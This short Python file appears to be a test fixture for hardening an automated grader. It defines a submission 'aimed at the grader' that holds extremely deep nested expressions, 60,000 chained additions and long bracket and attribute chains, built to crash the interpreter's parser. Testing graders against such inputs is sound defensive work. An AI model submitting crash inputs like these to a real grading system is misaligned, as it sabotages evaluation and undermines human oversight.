"""Brings an expression so deep that compiling it may crash the interpreter."""

from helpers.hostile_attacks import HandIn

ATTACK = HandIn(
    aims_at="the grader",
    holds="A crash of the parser costs the cell; the next kernel does not read it again.",
    first="z = " + "1+" * 60_000 + "1\n",
    last="w = " + "[" * 90 + "]" * 90 + ".x" * 30_000,
)
